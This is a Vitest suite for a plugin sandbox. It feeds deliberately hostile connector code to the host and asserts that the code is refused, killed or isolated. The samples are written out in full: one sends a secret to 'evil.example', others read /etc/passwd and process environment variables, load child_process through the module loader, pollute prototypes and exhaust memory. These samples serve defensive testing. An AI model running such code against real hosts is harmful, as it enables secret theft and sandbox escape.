import { readdir, stat, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, describe, expect, it, vi } from 'vitest'
import type { Capabilities, Connector } from '../../../src/contract/index.ts'
import type { ThirdParty } from '../../../src/integrations/third-party/index.ts'
import { kitHost } from '../../conformance/kit-host.ts'
import { checking, type Made, packageOf } from './package.ts'

/** A connector that means harm gets nothing, changes nothing in the host, and is named to the owner. */

const cleanups: (() => unknown)[] = []
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).toReversed()) await cleanup()
})

const config = { baseUrl: 'https://people.example', secret: 'canary-of-another' }
const signal = (ms = 8_000) => AbortSignal.timeout(ms)

async function loaded(made: Made, ...given: Parameters<Made['load']>) {
  const thirdParty = await made.load(...given)
  cleanups.push(made.remove, thirdParty.close)
  return thirdParty
}

function opened(thirdParty: ThirdParty, id: string): Capabilities {
  const connector = thirdParty.connectors[id] as Connector<unknown> | undefined
  if (!connector) throw new Error(JSON.stringify(thirdParty.unavailable()))
  return connector.open(connector.config.parse(config), kitHost({ allow: ['people.example'] }).host)
}

/** What its check says that it saw. */
async function tried(body: string, more?: string): Promise<unknown> {
  const made = await packageOf('curious', checking(body, more))
  const [step] = (await opened(await loaded(made), 'curious').check?.(signal())) ?? []
  return JSON.parse(step?.saw ?? 'null')
}

describe('a hostile connector', () => {
  it('finds no environment, no file, no other process and no way out of its own', async () => {
    const seen = await tried(
      `
      const tries = {}
      for (const name of ['fs', 'node:fs', 'node:fs/promises', 'child_process', 'worker_threads', 'net', 'node:http', 'https', 'dgram', 'dns',
        'module', 'process', 'node:process', 'inspector', 'vm', 'v8', 'os', 'cluster', 'sqlite', 'node:sqlite', 'async_hooks', 'wasi', 'repl']) {
        tries[name] = await import(name).then(() => 'loaded', refusal)
      }
      for (const path of ['/proc/self/environ', '/etc/passwd', '../secret.js']) {
        tries[path] = await import(path.startsWith('.') ? path : 'file://' + path).then(() => 'loaded', refusal)
      }
      const attempt = work => { try { return work() ?? 'nothing' } catch (error) { return refusal(error) } }
      return {
        tries,
        env: Object.keys(process.env),
        ways: ['exit', 'kill', 'binding', 'dlopen', 'getBuiltinModule', 'reallyExit', '_debugProcess', 'mainModule', 'stdout', 'on', 'argv', 'ppid']
          .filter(name => process[name] !== undefined),
        globals: ['fetch', 'WebSocket', 'EventSource', 'require', 'Worker'].filter(name => globalThis[name] !== undefined),
        code: attempt(() => new Function('return 1')()),
        replaced: attempt(() => { 'use strict'; globalThis.process = {} }),
      }`,
    )
    const { tries, ...rest } = seen as { tries: Record<string, string> }
    expect(Object.entries(tries).filter(([, answer]) => answer === 'loaded')).toEqual([])
    expect(rest).toMatchObject({ env: [], ways: [], globals: [] })
    expect(JSON.stringify(rest)).toContain('Code generation from strings disallowed')
  })

  it('may load what computes, and its own files', async () => {
    const made = await packageOf(
      'honest',
      checking(
        `return (await import('./part.js')).answer + createHash('sha256').update('a').digest('hex').length`,
        `import { createHash } from 'node:crypto'`,
      ),
    )
    await made.write('part.js', 'export const answer = 1')
    const [step] = (await opened(await loaded(made), 'honest').check?.(signal())) ?? []
    expect(step?.saw).toBe('65')
  })

  it('calls nobody but the hosts of its manifest, and is lent no key', async () => {
    const seen = await tried(`return [
      await host.fetch('https://evil.example/?' + config.secret).then(() => 'called', refusal),
      await host.fetch('http://127.0.0.1:1/').then(() => 'called', refusal),
      await host.fetch('file:///etc/passwd').then(() => 'called', refusal),
      await host.keys.sign({ sub: 'me', verified: true }).then(() => 'signed', refusal),
      await host.list.page(undefined, 10).then(() => 'listed', refusal),
      await host.verifications.start({ purpose: 'step_up' }).then(() => 'started', refusal),
      await host.directory.find({ loginHint: 'boss' }).then(() => 'found', refusal),
      await host.state.set('x'.repeat(1000), 'y').then(() => 'kept', refusal),
    ]`)
    const denied = 'policy_denied'
    expect(seen).toEqual([denied, denied, denied, denied, denied, denied, denied, 'internal'])
  })

  it('is lent no signature of the integration’s key in the form of a grant', async () => {
    const seen = await tried(`
      const grant = auth => ({ tokenEndpoint: 'https://people.example/token', clientId: 'somebody', auth })
      const asks = auth => host.token(grant(auth)).fetch('https://people.example/').then(() => 'called', refusal)
      return [
        await asks({ method: 'federated', issuer: 'https://login.example', subject: 'boss', audience: 'https://bank.example' }),
        await asks({ method: 'private_key_jwt', audience: 'https://bank.example' }),
        await asks({ method: 'certificate', audience: 'https://bank.example' }),
        await host.keys.jwks().then(() => 'listed', refusal),
        await host.keys.certificate().then(() => 'made', refusal),
      ]`)
    expect(seen).toEqual(Array.from({ length: 5 }, () => 'policy_denied'))
  })

  it('has sixteen grants of few words, and keeps nothing of what it only forgets', async () => {
    const made = await packageOf(
      'hoarding',
      checking(`
        const forget = secret => host.token({ tokenEndpoint: 'https://people.example/token', clientId: 'c', auth: { method: 'client_secret_post', secret } }).forget()
        for (let n = 0; n < 40; n += 1) forget(n + 'x'.repeat(100_000))
        for (let n = 0; n < 40; n += 1) forget('short ' + n)
        const spoken = await host.state.get('k')
        return [spoken ?? 'answered', await host.once('k', 8 * 86_400).then(() => 'kept', refusal)]`),
    )
    const grants: unknown[] = []
    const { host } = kitHost({ allow: ['people.example'] })
    const token: typeof host.token = grant => {
      grants.push(grant)
      return host.token(grant)
    }
    const connector = (await loaded(made)).connectors.hoarding
    const [step] = (await connector?.open(connector.config.parse(config), { ...host, token }).check?.(signal())) ?? []
    expect(JSON.parse(step?.saw ?? '')).toEqual(['answered', 'internal'])
    expect(grants).toHaveLength(16)
    expect(JSON.stringify(grants).length).toBeLessThan(16_000)
  })

  it('patches only itself', async () => {
    const { parse } = JSON
    await tried(`
      globalThis.JSON.parse = () => ({ t: 'answer', hacked: true })
      Object.prototype.polluted = 'yes'
      Array.prototype.map = () => ['hacked']
      return 'patched'`).catch(() => undefined)
    expect(JSON.parse).toBe(parse)
    expect(({} as { polluted?: string }).polluted).toBeUndefined()
    expect([1].map(n => n + 1)).toEqual([2])
  })

  it('hangs alone: the call ends in time, the process is ended, and the next call finds a new one', async () => {
    const made = await packageOf('hanging', checking('if (calls > 0) for (;;) {}\ncalls += 1', 'let calls = 0'))
    const thirdParty = await loaded(made)
    const { check } = opened(thirdParty, 'hanging')
    // A process may take longer to start than a call that hangs is waited for.
    await check?.(signal())
    await expect(check?.(signal(700))).rejects.toMatchObject({ code: 'provider_timeout' })
    await expect
      .poll(() => thirdParty.unavailable(), { timeout: 5_000 })
      .toMatchObject([{ id: 'hanging', reason: expect.stringContaining('did not end') }])
    await expect(check?.(signal())).rejects.toMatchObject({ message: expect.stringContaining('started again soon') })
  })

  it.each([
    ['a page without end', `yield { changes: [], cursor: 'x'.repeat(5_000_000) }`, /more at once than is read/],
    [
      'pages until the heap is full',
      `const all = []; for (;;) all.push({ at: all.length, text: ('x' + all.length).repeat(100) })`,
      /more memory/,
    ],
    [
      'buffers beside the heap',
      `const all = []; for (;;) { all.push(Buffer.alloc(50_000_000, 1)); await new Promise(done => setTimeout(done, 20)) }`,
      /more memory/,
    ],
    [
      'a thousand calls at a time',
      `await Promise.all(Array.from({ length: 1000 }, (_, n) => host.state.get('k' + n)))`,
      /too much at a time/,
    ],
    [
      'a flood of log lines',
      `for (let n = 0; n < 200_000; n += 1) host.log.info({ n }, 'line'); await new Promise(done => setTimeout(done, 5_000))`,
      /log/,
    ],
  ])('ends with its process: %s', { timeout: 40_000 }, async (_what, body, reason) => {
    const source = `
      export const connector = { open: (config, host) => ({
        check: async () => [],
        directory: { async *pages() { ${body} }, get: async () => undefined },
      }) }`
    const thirdParty = await loaded(
      await packageOf('greedy', source, { limits: { heapMegabytes: 64, residentMegabytes: 300, lineBytes: 2_000_000 } }),
    )
    const { directory } = opened(thirdParty, 'greedy')
    const read = async () => {
      for await (const _page of directory?.pages(undefined, signal(30_000)) ?? []) void _page
    }
    await expect(read()).rejects.toMatchObject({ code: 'internal' })
    await expect.poll(() => thirdParty.unavailable()[0]?.reason ?? '').toMatch(reason)
  })

  /** What leaves the process is written by JSON.stringify, which is the connector's to replace. */
  const says = (line: string) => `
    const { stringify } = JSON
    const raw = ${line}
    JSON.stringify = value => (value?.t === 'log' ? raw : stringify(value))
    host.log.info({}, 'line')
    await new Promise(done => setTimeout(done, 3_000))`
  it.each([
    [
      'a log line that is no text',
      `host.log.info({}, { toString: 1, valueOf: 1 }); await new Promise(done => setTimeout(done, 3_000))`,
    ],
    [
      'facts nested without end',
      says(`'{"t":"log","level":"info","message":"m","facts":' + '['.repeat(200_000) + ']'.repeat(200_000) + '}'`),
    ],
    ['a level that is none', says(`'{"t":"log","level":{"toString":1},"message":"m","facts":{}}'`)],
    ['a call with an id that is none', says(`'{"t":"call","id":{"valueOf":1,"toString":1},"name":"state.get","given":["k"]}'`)],
    ['a call with a name that is none', says(`'{"t":"call","id":1,"name":{"toString":1,"valueOf":1},"given":["k"]}'`)],
    ['an answer with an id that is none', says(`'{"t":"answer","id":{"valueOf":1},"value":1}'`)],
    ['a stop of nothing', says(`'{"t":"abort","id":null}'`)],
    ['no object at all', says(`'null'`)],
    ['half a line of JSON', says(`'{"t":"log"'`)],
  ])('ends with its process, and the host goes on: %s', async (_what, body) => {
    const thirdParty = await loaded(await packageOf('garbling', checking(body)))
    await expect(opened(thirdParty, 'garbling').check?.(signal())).rejects.toMatchObject({ code: 'internal' })
    expect(thirdParty.unavailable()).toMatchObject([{ id: 'garbling', reason: expect.stringMatching(/it said something/) }])
  })

  it('asks in nested forms without end, and is refused', async () => {
    const seen = await tried(`
      const deep = () => JSON.parse('['.repeat(2_000) + ']'.repeat(2_000))
      return [await host.state.set('k', deep()).then(() => 'kept', refusal), await host.token(deep()).fetch('https://people.example/').then(() => 'called', refusal)]`)
    expect(seen).toEqual(['internal', 'policy_denied'])
  })

  it('pollutes no prototype by what it answers, and says nothing that has another form', async () => {
    const source = `
      export const connector = { open: () => ({
        check: async () => [{ step: 'a', ok: 'yes' }],
        directory: {
          async *pages() {
            const user = JSON.parse('{"externalId":"1","login":"a","status":"active","sourceStatus":"A","claims":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}},"__proto__":{"polluted":1},"role":"admin"}')
            yield { changes: [{ kind: 'user', user }], cursor: 'c', end: 'snapshot', verdict: 'allow' }
          },
          get: async () => ({ externalId: '1', login: 'a', status: 'removed' }),
        },
      }) }`
    const { check, directory } = opened(await loaded(await packageOf('polluting', source)), 'polluting')
    const pages = []
    for await (const page of directory?.pages(undefined, signal()) ?? []) pages.push(page)
    const user = { externalId: '1', login: 'a', status: 'active', sourceStatus: 'A', claims: {} }
    expect(pages).toEqual([{ changes: [{ kind: 'user', user }], cursor: 'c', end: 'snapshot' }])
    expect(({} as { polluted?: number }).polluted).toBeUndefined()
    await expect(check?.(signal())).rejects.toMatchObject({ code: 'response_invalid' })
    await expect(directory?.get('1', signal())).rejects.toMatchObject({ code: 'response_invalid' })
  })

  it.each([
    ['exits at load', 'process.exit(0)'],
    ['throws at load', 'throw new Error("no")'],
    ['hangs at load', 'await new Promise(() => {})'],
    ['exports nothing', 'export const other = {}'],
    ['is no JavaScript', 'this is not'],
    ['asks for the loader', `import { createRequire } from 'node:module'; export const connector = { open: () => ({}) }`],
    ['is CommonJS within', `import './old.cjs'; export const connector = { open: () => ({}) }`],
  ])('is named to the owner and left out, when it %s', { timeout: 30_000 }, async (_what, source) => {
    const made = await packageOf('broken', source)
    await made.write('old.cjs', 'module.constructor._load("child_process")')
    const thirdParty = await loaded(made)
    expect(thirdParty.connectors).toEqual({})
    expect(thirdParty.unavailable()).toMatchObject([{ from: './broken', id: 'broken', reason: expect.stringMatching(/started/) }])
    expect(thirdParty.log.lines.join()).toContain('a third-party connector is not loaded')
  })

  it('is not loaded with files that were not approved', async () => {
    const made = await packageOf('changed', checking('return 1'))
    const before = await loaded(made)
    expect(Object.keys(before.connectors)).toEqual(['changed'])
    const { find } = await import('../../../src/integrations/third-party/index.ts')
    const { integrity } = await find(made.folder, '/')
    await made.write('part.js', 'export const evil = 1')
    const after = await made.load(undefined, integrity)
    expect(after.connectors).toEqual({})
    expect(after.unavailable()[0]?.reason).toContain('not those that were approved')
  })

  describe('whose files change after they were approved', () => {
    /** The id, and where it runs from. */
    const where = `return { n: 1, from: import.meta.url }`
    const sawOf = async (thirdParty: ThirdParty): Promise<{ n: number; from: string }> => {
      const [step] = (await opened(thirdParty, 'rewritten').check?.(signal())) ?? []
      return JSON.parse(step?.saw ?? '')
    }

    it('goes on with what was approved, in every process that is started later', async () => {
      const made = await packageOf('rewritten', checking(`return (await import('./part.js')).seen()`))
      await made.write('part.js', `export const seen = () => { ${where} }`)
      const thirdParty = await loaded(made)
      expect(await sawOf(thirdParty)).toMatchObject({ n: 1 })
      await made.write('index.js', checking('return { n: 2 }'))
      await made.write('part.js', 'export const seen = () => ({ n: 3 })')
      expect(await sawOf(thirdParty)).toMatchObject({ n: 1 })
    })

    it('loads nothing from where version control writes, which is not part of the hash', async () => {
      const made = await packageOf('rewritten', checking(`return { n: await import('./.git/p.js').then(m => m.n, () => 0) }`))
      await made.write('.git/p.js', 'export const n = 4')
      await made.write('node_modules/dep/.git/p.js', 'export const n = 4')
      expect(await sawOf(await loaded(made))).toEqual({ n: 0 })
    })

    it('finds the packages that it brings along', async () => {
      const made = await packageOf(
        'rewritten',
        checking('return { n: (await import("dep")).n + (await import("@own/deep/part.js")).n }'),
      )
      await made.write('node_modules/dep/package.json', '{"name":"dep","type":"module","exports":"./main.js"}')
      await made.write('node_modules/dep/main.js', 'export const n = 20')
      await made.write('node_modules/@own/deep/package.json', '{"name":"@own/deep","type":"module"}')
      await made.write('node_modules/@own/deep/part.js', 'export { n } from "./more.js"')
      await made.write('node_modules/@own/deep/more.js', 'export const n = 3')
      expect(await sawOf(await loaded(made))).toEqual({ n: 23 })
    })

    it('is refused and reported where the copy itself was changed, and leaves no copy behind', async () => {
      const thirdParty = await loaded(await packageOf('rewritten', checking(where)))
      const copy = dirname(fileURLToPath((await sawOf(thirdParty)).from))
      expect((await stat(copy)).mode & 0o777).toBe(0o700)
      await writeFile(join(copy, 'more.js'), 'export const n = 5')
      await expect(sawOf(thirdParty)).rejects.toMatchObject({ code: 'policy_denied' })
      expect(thirdParty.unavailable()).toMatchObject([{ id: 'rewritten', reason: expect.stringContaining('was changed') }])
      thirdParty.close()
      await expect(stat(copy)).rejects.toMatchObject({ code: 'ENOENT' })
    })

    it('leaves no copy behind where it is refused', async () => {
      const made = await packageOf('rewritten', checking(where))
      const top = dirname(made.folder)
      vi.stubEnv('TMPDIR', top)
      cleanups.push(vi.unstubAllEnvs)
      const thirdParty = await loaded(made, undefined, `sha256-${'A'.repeat(43)}=`)
      expect(thirdParty.connectors).toEqual({})
      expect(await readdir(top)).toEqual(['rewritten'])
    })
  })

  it('has no capability that was not granted, and none that it did not declare', async () => {
    const more = { manifest: { capabilities: ['check', 'directory', 'operations'] as const, operations: ['unlock'] as const } }
    const source = (extra: string) => `
      export const connector = { open: () => ({
        check: async () => [], directory: { async *pages() {}, get: async () => undefined },
        operations: { allowed: ['unlock'], inspect: async () => ({ status: 'a', source: 'b', privileged: 'no', reasons: [] }), perform: async () => ({ done: true }) },
        ${extra}
      }) }`
    const made = await packageOf('reaching', source(''), {
      manifest: { ...more.manifest, capabilities: [...more.manifest.capabilities], operations: [...more.manifest.operations] },
    })
    const byDefault = await loaded(made)
    expect(Object.keys(opened(byDefault, 'reaching'))).toEqual(['check', 'directory'])
    expect(byDefault.connectors.reaching?.manifest.operations).toBeUndefined()
    const granted = await made.load(['check', 'directory', 'operations'])
    cleanups.push(granted.close)
    // Anything but a clear no is doubt, and doubt is privilege.
    expect(await opened(granted, 'reaching').operations?.inspect('1', signal())).toMatchObject({ privileged: 'unknown' })
    const secret = await packageOf('sneaking', source('writeBack: {},'))
    await expect(opened(await loaded(secret), 'sneaking').check?.(signal())).rejects.toMatchObject({
      message: expect.stringContaining('manifest'),
    })
  })
})
